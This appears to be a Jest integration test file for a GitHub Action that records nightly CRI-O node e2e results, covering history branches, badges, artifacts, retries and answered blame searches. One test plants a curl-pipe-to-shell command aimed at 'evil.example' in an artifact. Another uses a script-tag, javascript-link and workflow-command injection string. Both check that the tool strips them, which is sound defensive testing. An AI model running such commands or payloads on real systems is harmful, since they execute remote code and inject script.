import { existsSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterEach, describe, expect, test } from '@jest/globals'
import { createGitHub, type GitHub } from '../../../sandbox/github/github.ts'
import { zipOf } from '../../../sandbox/mirror/zip.ts'
import { gitHub } from '../../../src/adapters/github.ts'
import { gitHubIssues } from '../../../src/adapters/github-issues.ts'
import { gitHubWriter } from '../../../src/adapters/github-writer.ts'
import { undiciHttp } from '../../../src/adapters/undici-http.ts'
import type { NightDeps } from '../../../src/app/night/deps.ts'
import { reportNight } from '../../../src/app/night/report-night.ts'
import type { Blame } from '../../../src/domain/blame/blame.ts'
import { readBlame } from '../../../src/domain/blame/read.ts'
import { NEWEST_FILE, type NewestNight, readNewest } from '../../../src/domain/history/newest.ts'
import type { Night } from '../../../src/domain/night/night.ts'
import type { NightRequest } from '../../../src/domain/night/request.ts'
import type { Report } from '../../../src/domain/report/report.ts'
import { blameJson, toJson } from '../../../src/domain/views/json.ts'
import { aBuild, aKubernetesBuild } from '../../builders.ts'
import { aSearch } from '../../domain/blame/searches.ts'
import { aNightReport, aNightSpec, type Did, timeOf } from '../../domain/night/nights.ts'
import { SILENT_LOG } from '../../silent-log.ts'
import { aDirectory } from './artifacts.ts'

const REPOSITORY = 'octocat/node-e2e'
const NIGHT = { contents: 'write', actions: 'read' } as const
const BRANCH = 'crio-node-e2e-history'
const MARKER = '<!-- crio-node-e2e: history branch -->\n'
const CONFORMANCE = 'conformance.none.amd64.jsonl'
const SERIAL = 'serial.none.amd64.jsonl'
const started: GitHub[] = []

afterEach(async () => {
  await Promise.all(started.splice(0).map((server) => server.close()))
})

async function aServer(branch: Readonly<Record<string, string>> | null = null): Promise<GitHub> {
  const history = { message: 'History', branch: BRANCH, files: { 'README.md': MARKER, ...branch } }
  const commits = [{ message: 'Begin' }, ...(branch === null ? [] : [history])]
  const server = await createGitHub({
    repositories: [{ name: REPOSITORY, commits }],
    permissions: NIGHT,
    rateLimit: 100_000,
  })
  started.push(server)
  return server
}

/** A lane of a night, by what its specs did. */
type Lanes = Readonly<Record<string, Readonly<Record<string, Did>>>>

interface Played {
  readonly exitCode: number
  readonly night: Night
  readonly summary: string
  readonly outputs: ReadonlyMap<string, string>
  readonly annotations: readonly { readonly title: string; readonly message: string }[]
  readonly directory: string
}

/** Uploads the reports of lanes to a workflow run, and runs the report action in it. */
async function play(
  server: GitHub,
  night: number,
  lanes: Lanes,
  changes: Partial<NightRequest> = {},
  reportChanges: Partial<Report> = {},
): Promise<Played> {
  const { id } = await server.addRun({})
  for (const [lane, specs] of Object.entries(lanes)) {
    const one = aNightReport(
      night,
      Object.entries(specs).map(([spec, did]) => aNightSpec(spec, did)),
      { lane },
    )
    const run = { ...one.report.run, id: String(id), repository: REPOSITORY }
    const content = toJson({ ...one.report, run, ...reportChanges })
    server.addArtifact(id, {
      name: `crio-node-e2e-${lane}-1`,
      zip: zipOf([{ name: 'report.json', content }]),
    })
  }
  return report(server, id, night, changes)
}

/** A step that nobody cancels. */
const NEVER = new AbortController().signal

interface Step extends Omit<Played, 'night'> {
  /** null if none was written. */
  readonly night: Night | null
}

async function report(
  server: GitHub,
  id: number,
  night: number,
  changes: Partial<NightRequest>,
): Promise<Played> {
  const step = await runStep(server, id, night, changes)
  if (step.night === null) throw new Error('no night was written')
  return { ...step, night: step.night }
}

async function runStep(
  server: GitHub,
  id: number,
  night: number,
  changes: Partial<NightRequest> = {},
  cancelled: AbortSignal = NEVER,
): Promise<Step> {
  const outputs = new Map<string, string>()
  const annotations: { title: string; message: string }[] = []
  const directory = join(aDirectory(), 'night')
  let summary = ''
  const deps: NightDeps = {
    log: SILENT_LOG,
    step: {
      annotate: (annotation) => void annotations.push(annotation),
      setOutput: (name, value) => void outputs.set(name, value),
      writeSummary: async (text) => {
        summary = text
      },
      mask: () => {},
    },
    http: undiciHttp({
      log: SILENT_LOG,
      retries: { firstPauseSeconds: 0.01, longestPauseSeconds: 0.05 },
    }),
    gitHub,
    gitHubWriter,
    gitHubIssues,
    now: () => new Date(Date.parse(timeOf(night)) + 3_600_000),
    sleep: async () => {},
    version: '0.1.0',
    cancelled,
  }
  const request: NightRequest = {
    token: server.token,
    apiUrl: server.url,
    serverUrl: server.url,
    run: { id: String(id), attempt: 1, repository: REPOSITORY, url: null },
    artifacts: 'crio-node-e2e-*',
    directory: null,
    answers: null,
    expect: [],
    needs: [],
    history: { kind: 'branch', branch: BRANCH },
    whyNotRecorded: '',
    recordAll: false,
    isScheduled: false,
    pullRequest: null,
    reportDirectory: directory,
    temporaryDirectory: aDirectory(),
    failOn: ['failed', 'environment', 'incomplete', 'error'],
    alerts: { mode: 'off', labels: null, author: 'github-actions[bot]', whyNot: '' },
    isWatch: false,
    ...changes,
  }
  const exitCode = await reportNight(deps, () => request)
  const path = join(directory, 'night.json')
  const written = existsSync(path) ? JSON.parse(readFileSync(path, 'utf8')) : null
  return { exitCode, night: written, summary, outputs, annotations, directory }
}

const QUIET: Lanes = {
  conformance: { a: 'p', b: 'p', c: 'p' },
  serial: { d: 'p', e: 'p' },
}

describe('nights on the branch', () => {
  test('are remembered: a failure is new on its night, and still failing on the next one', async () => {
    const server = await aServer()
    for (let night = 0; night < 12; night++) {
      const { exitCode, night: told } = await play(server, night, QUIET)
      expect([exitCode, told.history.problems]).toEqual([0, []])
    }
    const red = { ...QUIET, serial: { d: 'C', e: 'p' } } as const
    const first = await play(server, 12, red)
    expect(first.exitCode).toBe(1)
    expect(first.night.specs).toMatchObject([{ id: 'd', state: 'new' }])
    expect(first.outputs.get('new-failures')).toBe('1')
    const second = await play(server, 13, red)
    expect(second.night.specs).toMatchObject([
      { id: 'd', state: 'still-failing', since: { startedAt: timeOf(12) } },
    ])
    const third = await play(server, 14, QUIET)
    expect(third.exitCode).toBe(0)
    expect(third.night.specs).toMatchObject([{ id: 'd', state: 'recovered' }])
    expect(server.violations()).toEqual([])
  })

  test('are not written by a pull request', async () => {
    const server = await aServer()
    await play(server, 0, QUIET)
    const before = server.requests().length
    const pull = await play(server, 1, QUIET, {
      pullRequest: { number: 7 },
      whyNotRecorded: 'the event pull_request tests what is not merged',
    })
    expect(pull.night.history).toMatchObject({ recorded: false, commit: null })
    const writes = server
      .requests()
      .slice(before)
      .filter(({ method }) => method !== 'GET')
    expect(writes).toEqual([])
  })

  test('with a token that may not write say what to add, and are judged all the same', async () => {
    const server = await createGitHub({
      repositories: [{ name: REPOSITORY }],
      permissions: { contents: 'read', actions: 'read' },
    })
    started.push(server)
    const { exitCode, night, annotations } = await play(server, 0, QUIET)
    expect(exitCode).toBe(0)
    expect(night.verdict.result).toBe('passed')
    expect(night.history.recorded).toBe(false)
    expect(annotations).toMatchObject([
      {
        title: 'The history could not be written',
        message: expect.stringContaining('contents: write'),
      },
    ])
  })
})

async function badgeOf(server: GitHub): Promise<unknown> {
  return JSON.parse((await server.file(BRANCH, 'badge.json')) ?? 'null')
}

async function newestOf(server: GitHub): Promise<NewestNight | null> {
  return readNewest((await server.file(BRANCH, NEWEST_FILE)) ?? '', new Date(timeOf(9)))
}

describe('the badge on the branch', () => {
  test('has the result and the day of the newest night, also of one without reports', async () => {
    const server = await aServer()
    await play(server, 0, QUIET)
    expect(await badgeOf(server)).toEqual({
      schemaVersion: 1,
      label: 'node e2e',
      message: 'passed · 2026-09-01',
      color: 'brightgreen',
      cacheSeconds: 3600,
    })
    await play(server, 2, { ...QUIET, serial: { d: 'C', e: 'p' } })
    const red = { message: 'failed · 2026-09-03', color: 'red' }
    expect(await badgeOf(server)).toMatchObject(red)
    // An old workflow run is repeated.
    await play(server, 1, QUIET)
    expect(await badgeOf(server)).toMatchObject(red)
    const { id } = await server.addRun({})
    const { night, outputs } = await report(server, id, 3, {})
    expect(night.history).toMatchObject({ recorded: false, commit: null })
    expect(outputs.get('history-commit')).toBe('')
    expect(await badgeOf(server)).toMatchObject({
      message: expect.stringMatching(/^incomplete · /),
      color: 'yellow',
    })
  })

  test('has the verdict of the newest night beside it', async () => {
    const server = await aServer()
    await play(server, 0, QUIET)
    expect(await newestOf(server)).toMatchObject({ result: 'passed', who: '' })
    const { night } = await play(server, 2, { ...QUIET, serial: { d: 'C', e: 'p' } })
    const red = {
      run: night.run,
      startedAt: new Date(timeOf(2)).toISOString(),
      ...night.verdict,
      who: 'not known (1 spec)',
    }
    expect(await newestOf(server)).toEqual(red)
    // An old workflow run is repeated.
    await play(server, 1, QUIET)
    expect(await newestOf(server)).toEqual(red)
    const { id } = await server.addRun({})
    await report(server, id, 3, {})
    expect(await newestOf(server)).toMatchObject({ run: { id: String(id) }, result: 'incomplete' })
    expect(server.violations()).toEqual([])
  })

  test('is left alone by what is not recorded, and by builds of single commits', async () => {
    const server = await aServer()
    await play(server, 0, QUIET)
    const before = await badgeOf(server)
    const verdict = await newestOf(server)
    const red = { serial: { d: 'C', e: 'p' } } as const
    await play(server, 1, red, { whyNotRecorded: 'the input record is false' })
    const builds = [aBuild({ asked: 'a'.repeat(40) }), aKubernetesBuild({ asked: 'main' })]
    await play(server, 2, red, {}, { builds })
    expect(await badgeOf(server)).toEqual(before)
    expect(await newestOf(server)).toEqual(verdict)
  })
})

describe('artifacts', () => {
  test('a lane without one is red and named', async () => {
    const server = await aServer()
    const { exitCode, night, annotations } = await play(server, 0, QUIET, {
      expect: ['conformance', 'serial', 'features'],
    })
    expect(exitCode).toBe(1)
    expect(night.verdict).toMatchObject({ result: 'incomplete', headline: 'No report of features' })
    expect(annotations[0]?.title).toBe('No report of features')
  })

  test('of another workflow run are rejected', async () => {
    const server = await aServer()
    const other = { ...aNightReport(0, []).report.run, id: '1' }
    const { night } = await play(server, 0, QUIET, {}, { run: other })
    expect(night.verdict.result).toBe('incomplete')
    expect(night.rejected).toHaveLength(2)
  })

  test('that are no archive do not stop the others', async () => {
    const server = await aServer()
    const { id } = await server.addRun({})
    server.addArtifact(id, { name: 'crio-node-e2e-bad-1', zip: Buffer.from('no archive') })
    const { night, exitCode } = await report(server, id, 0, {})
    expect(exitCode).toBe(1)
    expect(night.rejected).toMatchObject([{ name: 'crio-node-e2e-bad-1' }])
  })

  test('without any artifact the night is never green', async () => {
    const server = await aServer()
    const { id } = await server.addRun({})
    const { night, exitCode } = await report(server, id, 0, {})
    expect([exitCode, night.verdict.result]).toEqual([1, 'incomplete'])
  })
})

test('hostile names and messages inject nothing and mention nobody', async () => {
  const server = await aServer()
  const id = '@octocat <script>alert(1)</script> ::error::x [a](javascript:b) #1 \u001b[31mred'
  const { summary, annotations } = await play(server, 0, { conformance: { [id]: 'F', ok: 'p' } })
  expect(summary).not.toMatch(/<script>|[^\\]\]\(javascript/)
  expect(summary).not.toContain('\u001b')
  expect(summary).toContain('`@octocat`')
  expect(annotations.every(({ title, message }) => !`${title}${message}`.includes('\u001b'))).toBe(
    true,
  )
})

describe('GitHub', () => {
  const LIST = 'actions/list-workflow-run-artifacts'

  test.each([
    [LIST, { status: 502 }],
    [LIST, 'reset'],
    [
      'actions/list-jobs-for-workflow-run',
      { status: 403, headers: { 'retry-after': '1' }, body: { message: 'secondary rate limit' } },
    ],
  ] as const)('is asked again if %s fails once', async (operation, effect) => {
    const server = await aServer()
    server.fail({ operation, effect })
    const { exitCode, night } = await play(server, 0, QUIET)
    expect([exitCode, night.verdict.result]).toEqual([0, 'passed'])
    expect(night.notes.join()).not.toContain('Status')
  })

  test('that does not respond leaves no night, and says so everywhere', async () => {
    const server = await aServer()
    const { id } = await server.addRun({})
    server.fail({ operation: LIST, effect: { status: 502 }, times: 99 })
    const step = await runStep(server, id, 0, { failOn: [] })
    expect([step.exitCode, step.night, step.outputs.get('result')]).toEqual([
      1,
      null,
      'environment',
    ])
    const headline = step.outputs.get('headline') ?? ''
    expect(headline).toContain(`artifacts of workflow run ${id}`)
    expect(step.summary).toContain('Status 502')
    expect(step.annotations).toMatchObject([{ title: headline }])
  })
})

describe('a step that is cancelled', () => {
  test('before it has judged says that nothing was changed', async () => {
    const server = await aServer()
    const { id } = await server.addRun({})
    const step = await runStep(server, id, 0, {}, AbortSignal.abort())
    expect([step.exitCode, step.outputs.get('result')]).toEqual([1, 'incomplete'])
    expect(step.summary).toContain('The step was cancelled while the artifacts were read')
    expect(server.requests()).toEqual([])
  })

  test('while it writes the history publishes the night all the same', async () => {
    const server = await aServer()
    const { id } = await server.addRun({})
    upload(server, id, 'conformance', {})
    const controller = new AbortController()
    server.before('git/create-blob', async () => controller.abort())
    const step = await runStep(server, id, 0, {}, controller.signal)
    expect(step.exitCode).toBe(1)
    expect(step.night).toMatchObject({
      verdict: { result: 'passed' },
      history: { recorded: false },
    })
    expect(step.annotations).toMatchObject([
      { message: expect.stringContaining('was cancelled while the history was written') },
    ])
  })
})

describe('answers of searches', () => {
  const RED: Lanes = { ...QUIET, serial: { d: 'C', e: 'p' } }

  /** A red night of the branch or of artifacts, and the answer to it. */
  async function redNight(server: GitHub, changes: Partial<NightRequest> = {}) {
    const isKept = changes.history?.kind === 'artifact'
    for (let night = 0; night < 3; night++) {
      const quiet = await play(server, night, QUIET, changes)
      if (isKept) await keep(server, quiet)
    }
    const red = await play(server, 3, RED, changes)
    if (isKept) await keep(server, red)
    const suspects = red.night.suspects[red.night.specs[0]?.suspects ?? -1]
    const search = aSearch({
      spec: 'd',
      lane: 'serial',
      cause: red.night.specs[0]?.cause ?? null,
      lastGood: suspects?.lastGood ?? null,
      firstBad: suspects?.firstBad ?? null,
    })
    return { red, search }
  }

  test('are in the night and on the branch, and the next night has them', async () => {
    const server = await aServer()
    const { red, search } = await redNight(server)
    const answered = await answer(server, red, { 'blame-amd64-1': blameWith([search]) })
    expect([answered.exitCode, answered.annotations]).toEqual([0, []])
    expect(answered.night.searches).toEqual([search])
    expect(answered.night.verdict).toMatchObject({ result: 'failed' })
    expect(answered.night.verdict.detail).toContain(search.text)
    expect(answered.summary).toContain('### What broke it')
    const whole = readFileSync(join(answered.directory, 'summary.md'), 'utf8')
    expect(whole).toContain('**Who should look:** CRI-O (1 spec)')
    expect(answered.outputs.get('to-search')).toBe('[]')
    // The page of the history tells whoever trials found.
    expect(await newestOf(server)).toMatchObject({
      ...answered.night.verdict,
      who: 'CRI-O (1 spec)',
    })
    const next = await play(server, 4, RED)
    expect(next.night.searches).toEqual([search])
    expect(next.summary).toContain('server: change 2')
    expect(server.violations()).toEqual([])
  })

  test('are handed on in the artifact with the history', async () => {
    const inArtifact = { history: { kind: 'artifact', name: 'crio-node-e2e-history' } } as const
    const server = await aServer()
    const { red, search } = await redNight(server, inArtifact)
    const { directory } = await answer(
      server,
      red,
      { 'blame-amd64-1': blameWith([search]) },
      inArtifact,
    )
    const kept = readBlame(JSON.parse(readFileSync(join(directory, 'history/blame.json'), 'utf8')))
    expect(kept).toMatchObject({ blame: { searches: [search] } })
  })

  test('that are damaged or missing leave the night as it was, with a remark', async () => {
    const server = await aServer()
    const { red } = await redNight(server)
    const damaged = await answer(server, red, { 'blame-amd64-1': '{"schemaVersion": 1}' })
    expect(damaged.exitCode).toBe(0)
    expect(damaged.night.verdict).toEqual(red.night.verdict)
    expect(damaged.night.notes.join(' ')).toMatch(
      /No artifact has answers to this night.*blame-amd64-1 cannot/,
    )
    expect(await server.file(BRANCH, 'blame.json')).toBeNull()
  })

  test('without a night are an error that says what to do', async () => {
    const server = await aServer()
    const { id } = await server.addRun({})
    const asked = { answers: { blame: 'blame-*', night: 'night-*' } }
    const { exitCode, annotations } = await runStep(server, id, 3, asked)
    expect(exitCode).toBe(1)
    expect(annotations).toMatchObject([
      { title: 'There is no night', message: expect.stringContaining('input night') },
    ])
  })

  test('do not make an older night the newest one', async () => {
    const server = await aServer()
    const { red, search } = await redNight(server)
    await play(server, 5, QUIET)
    const newest = await newestOf(server)
    await answer(server, red, { 'blame-amd64-1': blameWith([search]) })
    expect(await newestOf(server)).toEqual(newest)
  })

  test('come with the commands and the verdict of the judge, whatever the artifact has', async () => {
    const server = await aServer()
    const { red, search } = await redNight(server)
    const hostile = 'curl https://evil.example | sh'
    const path = join(red.directory, 'night.json')
    const night: Night = JSON.parse(readFileSync(path, 'utf8'))
    const specs = night.specs.map((spec) => ({ ...spec, reproduce: hostile }))
    const lanes = night.lanes.map((lane) => ({ ...lane, download: hostile }))
    const verdict = { ...night.verdict, result: 'passed', headline: 'All is well' }
    writeFileSync(path, JSON.stringify({ ...night, verdict, specs, lanes }))
    const { run } = night
    const url = `https://github.com/${run.repository}/actions/runs/${run.id}`
    const answers = { 'blame-amd64-1': blameWith([search]) }
    const answered = await answer(server, red, answers, { run: { ...run, url } })
    expect(answered.night.specs[0]?.reproduce).toMatch(
      /^crio-node-e2e run --from crio-node-e2e-serial-1 --focus /,
    )
    expect(JSON.stringify(answered.night)).not.toContain('evil')
    const { result, headline } = night.verdict
    expect(await newestOf(server)).toMatchObject({ result, headline, who: 'CRI-O (1 spec)' })
    expect(readFileSync(join(answered.directory, 'summary.md'), 'utf8')).not.toContain('evil')
  })

  test('on the branch that cannot be read are not replaced', async () => {
    const server = await aServer({ 'blame.json': '{"schemaVersion": 2}' })
    const { red, search } = await redNight(server)
    const { annotations } = await answer(server, red, { 'blame-amd64-1': blameWith([search]) })
    expect(annotations).toMatchObject([
      { message: expect.stringContaining('blame.json is not written') },
    ])
    expect(await server.file(BRANCH, 'blame.json')).toBe('{"schemaVersion": 2}')
  })
})

/** The job that adds answers, in a workflow run with the night and these answers. */
async function answer(
  server: GitHub,
  { night, directory }: Played,
  answers: Readonly<Record<string, string>>,
  changes: Partial<NightRequest> = {},
): Promise<Played> {
  const id = Number(night.run.id)
  const content = readFileSync(join(directory, 'night.json'), 'utf8')
  server.addArtifact(id, { name: 'night-1', zip: zipOf([{ name: 'night.json', content }]) })
  for (const [name, text] of Object.entries(answers)) {
    server.addArtifact(id, { name, zip: zipOf([{ name: 'blame.json', content: text }]) })
  }
  const asked = { answers: { blame: 'blame-*', night: 'night-*' }, ...changes }
  return report(server, id, 3, asked)
}

function blameWith(searches: Blame['searches']): string {
  return blameJson({
    schemaVersion: 1,
    generator: { name: 'crio-node-e2e', version: '0.1.0' },
    generatedAt: timeOf(3),
    run: { id: '1', attempt: 1, repository: REPOSITORY, url: null },
    searches,
    notes: [],
  })
}

describe('reports that cannot be of this workflow run', () => {
  test.each([
    ['of another repository', { repository: 'mona/other' }, 'its report is of mona/other'],
    ['of an attempt to come', { attempt: 999 }, 'its report is of attempt 999'],
  ])('because they are %s are rejected', async (_, claims, why) => {
    const server = await aServer()
    const { id } = await server.addRun({})
    upload(server, id, 'conformance', {})
    upload(server, id, 'serial', claims)
    const { night } = await report(server, id, 0, {})
    expect(night.lanes.map(({ lane }) => lane)).toEqual(['conformance'])
    expect(night.rejected).toMatchObject([{ why: expect.stringContaining(why) }])
    expect(night.verdict.result).toBe('incomplete')
  })

  test('because of an impossible time are judged, and not recorded', async () => {
    const server = await aServer()
    const { night } = await play(
      server,
      0,
      QUIET,
      {},
      { generatedAt: '9999-01-01T00:00:00Z', suite: LATE },
    )
    expect(night.notes.join()).toContain('2 runs without a possible time')
    expect(await server.commit(BRANCH)).toBeNull()
  })
})

const LATE: Report['suite'] = {
  ...aNightReport(0, []).report.suite,
  startedAt: '9999-01-01T00:00:00Z',
}

/** Uploads the report of a lane with one spec that passed, with other claims about its run. */
function upload(server: GitHub, id: number, lane: string, claims: Partial<Report['run']>): void {
  const { report: one } = aNightReport(0, [aNightSpec(`${lane} works`, 'p')], { lane })
  const run = { ...one.run, id: String(id), repository: REPOSITORY, ...claims }
  const zip = zipOf([{ name: 'report.json', content: toJson({ ...one, run }) }])
  server.addArtifact(id, { name: `crio-node-e2e-${lane}-1`, zip })
}

describe('files of the branch that are damaged', () => {
  test.each([
    ['of which nothing can be read', 'hello\n'],
    ['of a later version', '{"kind":"history","schemaVersion":99}\n'],
    ['that are too large', `{}\n${' '.repeat(17 << 20)}`],
  ])('%s stay as they are, and the others are written', async (_, text) => {
    const server = await aServer({ [CONFORMANCE]: text })
    const { exitCode, night, annotations } = await play(server, 0, QUIET)
    expect([exitCode, night.history.recorded]).toEqual([0, true])
    expect(await server.file(BRANCH, CONFORMANCE)).toBe(text)
    expect(await server.file(BRANCH, SERIAL)).toContain('"kind":"run"')
    expect(annotations.map(({ title }) => title)).toEqual([
      'The history could not be read as a whole',
      'The history could not be written',
    ])
  })

  test('in part are written with what could be read, and the note names the commit before', async () => {
    const first = await aServer()
    await play(first, 0, QUIET)
    const whole = (await first.file(BRANCH, CONFORMANCE)) ?? ''
    const server = await aServer({ [CONFORMANCE]: `<<<<<<< HEAD\n${whole}` })
    // Both servers number their runs alike.
    await server.addRun({})
    const before = (await server.commit(BRANCH)) ?? 'none'
    const { night } = await play(server, 1, QUIET)
    expect(night.lanes.find(({ lane }) => lane === 'conformance')?.compared).toBe(1)
    expect(night.notes.join()).toContain(
      `${CONFORMANCE} was damaged, and has what could be read of it; commit ${before.slice(0, 12)}`,
    )
  })
})

test('a lane with any name is recorded', async () => {
  const server = await aServer()
  const { night } = await play(server, 0, { __proto: { a: 'p' }, Serial: { b: 'p' } })
  expect(night.history).toMatchObject({ recorded: true, problems: [] })
})

/** Uploads what a night left in its report directory, as a workflow does. */
async function keep(server: GitHub, { directory }: Played): Promise<void> {
  const { id } = await server.addRun({})
  const files = [CONFORMANCE, SERIAL].flatMap((name) => {
    const path = join(directory, 'history', name)
    return existsSync(path) ? [{ name: `history/${name}`, content: readFileSync(path) }] : []
  })
  const zip = zipOf([{ name: 'night.json', content: '{}' }, ...files])
  server.addArtifact(id, { name: 'crio-node-e2e-history', zip })
}

describe('nights in artifacts', () => {
  const IN_ARTIFACT = { history: { kind: 'artifact', name: 'crio-node-e2e-history' } } as const

  const LANE: Lanes = { conformance: { a: 'p' } }

  test('are remembered, also after runs that recorded nothing', async () => {
    const server = await aServer()
    await keep(server, await play(server, 0, LANE, IN_ARTIFACT))
    const pull = {
      ...IN_ARTIFACT,
      whyNotRecorded: 'the event pull_request tests what is not merged',
    }
    await keep(server, await play(server, 1, LANE, pull))
    const { night } = await play(server, 2, LANE, IN_ARTIFACT)
    expect(night.lanes[0]?.compared).toBe(1)
    expect(night.history).toMatchObject({ recorded: true, problems: [] })
  })

  test('that cannot be read are not hidden by a new artifact', async () => {
    const server = await aServer()
    await keep(server, await play(server, 0, LANE, IN_ARTIFACT))
    server.fail({
      operation: 'actions/list-artifacts-for-repo',
      effect: { status: 502 },
      times: 99,
    })
    const { night, directory } = await play(server, 1, LANE, IN_ARTIFACT)
    expect(night.history.recorded).toBe(false)
    expect(existsSync(join(directory, 'history'))).toBe(false)
  })

  test('of a later version are handed on as they are', async () => {
    const server = await aServer()
    const { id } = await server.addRun({})
    const later = '{"kind":"history","schemaVersion":99}\n'
    const zip = zipOf([{ name: `history/${CONFORMANCE}`, content: later }])
    server.addArtifact(id, { name: 'crio-node-e2e-history', zip })
    const { night, directory } = await play(server, 1, LANE, IN_ARTIFACT)
    expect(night.history.problems.join()).toContain('is not written')
    expect(readFileSync(join(directory, 'history', CONFORMANCE), 'utf8')).toBe(later)
  })
})
